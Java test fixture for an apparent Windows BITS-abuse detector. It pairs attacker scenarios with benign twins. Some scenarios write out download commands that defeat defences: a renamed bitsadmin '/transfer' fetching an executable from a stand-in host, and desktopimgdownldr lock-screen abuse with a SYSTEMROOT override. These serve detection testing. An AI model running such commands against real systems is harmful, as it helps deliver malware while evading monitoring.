package org.bitshound.testing.evidence.stories;

import static org.bitshound.testing.evidence.stories.Scene.SYSTEM32;

import java.util.List;
import org.bitshound.testing.evidence.samples.SampleProcess;
import org.bitshound.testing.evidence.samples.SampleUser;

/// Jobs and programs that pretend to be others.
final class DisguiseStories {
  private static final String WINDOWS_UPDATE = "WU Client Download";

  private DisguiseStories() {}

  static List<Twins> all() {
    return List.of(
        new Twins(
            "Title of Windows Update",
            Story.of(
                    "A user's program makes jobs under the title of Windows Update",
                    DisguiseStories::falseWindowsUpdate)
                .found("masquerade", "unapproved-url", "userland-creator"),
            Story.of("Windows Update fetches an update", DisguiseStories::windowsUpdate)),
        new Twins(
            "Renamed bitsadmin",
            Story.of(
                    "A copy of bitsadmin under another name fetches a program",
                    DisguiseStories::renamedTool)
                .found("masquerade", "unapproved-url", "risky-destination"),
            Story.of(
                "An administrator uses the 32-bit bitsadmin for the house's repository",
                DisguiseStories::otherBitsadmin)),
        new Twins(
            "Injected COM client",
            Story.of(
                    "notepad.exe asks a public image host for a job's file, in vain",
                    DisguiseStories::injectedNotepad)
                .found("unusual-com-creator", "unapproved-url")
                .never("process-intent", "bitsadmin-transfer"),
            Story.of(
                "An installer that unpacked itself fetches what it installs",
                DisguiseStories::installer)),
        new Twins(
            "Lock screen's downloader",
            Story.of(
                    "desktopimgdownldr is made to fetch a program of an attacker",
                    DisguiseStories::lockScreenAbused)
                .found("process-intent", "unapproved-url")
                .never("bitsadmin-transfer"),
            Story.of(
                "By a policy of the house desktopimgdownldr fetches the lock screen's image",
                DisguiseStories::lockScreen)));
  }

  private static Scene falseWindowsUpdate() {
    Scene scene = Scene.unwatched();
    String program = "C:\\ProgramData\\Media\\setup_wm.exe";
    String url = "http://203.0.113.80/00155D012345/wu.htm";
    SampleProcess maker = scene.running(scene.user, program, program);
    scene.fetch(maker, WINDOWS_UPDATE, url, "C:\\ProgramData\\Media\\wm41.tmp");
    return scene;
  }

  private static Scene windowsUpdate() {
    Scene scene = Scene.unwatched();
    SampleProcess service =
        scene.running(
            SampleUser.SYSTEM,
            SYSTEM32 + "svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv");
    String file = "windows10.0-kb5034441-x64_3f1c.cab";
    scene.fetch(
        service,
        WINDOWS_UPDATE,
        "http://au.download.windowsupdate.com/c/msdownload/update/software/secu/2026/03/" + file,
        "C:\\Windows\\SoftwareDistribution\\Download\\5d0e\\" + file);
    return scene;
  }

  private static Scene renamedTool() {
    Scene scene = Scene.watched();
    String image = "C:\\Users\\Public\\s.exe";
    String url = "https://static.cdn-sync.example/w/a.exe";
    String to = "C:\\Users\\Public\\a.exe";
    SampleProcess shell = scene.promptOf(scene.user);
    SampleProcess tool =
        scene.start(
            scene
                .host
                .known(scene.now(), image, "s  /transfer x " + url + " " + to, scene.user)
                .builtAs("bitsadmin.exe"),
            shell);
    scene.fetch(tool, "x", url, to);
    return scene;
  }

  private static Scene otherBitsadmin() {
    Scene scene = Scene.watched();
    String url = "https://repo.lindenwerk.example/agent/setup.msi";
    String to = "C:\\ProgramData\\Rollout\\setup.msi";
    SampleProcess tool =
        scene.start(
            scene.promptOf(scene.admin),
            "C:\\Windows\\SysWOW64\\bitsadmin.exe",
            "C:\\Windows\\SysWOW64\\bitsadmin.exe /transfer setup " + url + " " + to);
    scene.fetch(tool, "setup", url, to);
    return scene;
  }

  private static Scene injectedNotepad() {
    Scene scene = Scene.unwatched();
    String program = "C:\\Windows\\SysWOW64\\notepad.exe";
    String url = "https://img.cdn-sync.example/x7Q2.png";
    SampleProcess notepad = scene.running(scene.user, program, program);
    scene.till(
        scene
            .job("5c1b07af.png", notepad)
            .addFile(url, scene.user.profile() + "\\AppData\\Local\\Temp\\5c1b07af.png", notepad)
            .after(40_000)
            .cancel());
    return scene;
  }

  private static Scene installer() {
    Scene scene = Scene.unwatched();
    String folder = scene.user.profile() + "\\AppData\\Local\\Temp\\{0C4F3C6E-8B0D-4B7E}\\";
    String url = "https://download.vendor.example/suite/core.cab";
    SampleProcess setup = scene.running(scene.user, folder + "setup.exe", folder + "setup.exe");
    scene.fetch(setup, "Suite setup", url, folder + "core.cab");
    return scene;
  }

  private static Scene lockScreenAbused() {
    Scene scene = Scene.watched();
    String url = "https://static.cdn-sync.example:8080/w/file.ext";
    SampleProcess shell =
        scene.start(
            scene.desktopOf(scene.user),
            Scene.CMD,
            "cmd.exe /c set \"SYSTEMROOT=C:\\Windows\\Temp\" && cmd /c desktopimgdownldr.exe"
                + " /lockscreenurl:"
                + url
                + " /eventName:desktopimgdownldr");
    SampleProcess tool =
        scene.start(
            shell,
            SYSTEM32 + "desktopimgdownldr.exe",
            "desktopimgdownldr.exe  /lockscreenurl:" + url + " /eventName:desktopimgdownldr");
    scene.fetch(
        tool,
        "Download LockScreen Image",
        url,
        "C:\\Windows\\Temp\\Personalization\\LockScreenImage\\LockScreenImage_x.ext");
    return scene;
  }

  private static Scene lockScreen() {
    Scene scene = Scene.watched();
    String url = "https://repo.lindenwerk.example/brand/lock.jpg";
    SampleProcess service =
        scene.running(
            SampleUser.SYSTEM,
            SYSTEM32 + "omadmclient.exe",
            SYSTEM32 + "omadmclient.exe /serverid \"31AC8A5C\"");
    SampleProcess tool =
        scene.start(
            service,
            SYSTEM32 + "desktopimgdownldr.exe",
            "desktopimgdownldr.exe /lockscreenurl:" + url + " /eventName:lock");
    scene.fetch(
        tool,
        "Download LockScreen Image",
        url,
        "C:\\Windows\\Personalization\\LockScreenImage\\LockScreenImage_1.jpg");
    return scene;
  }
}
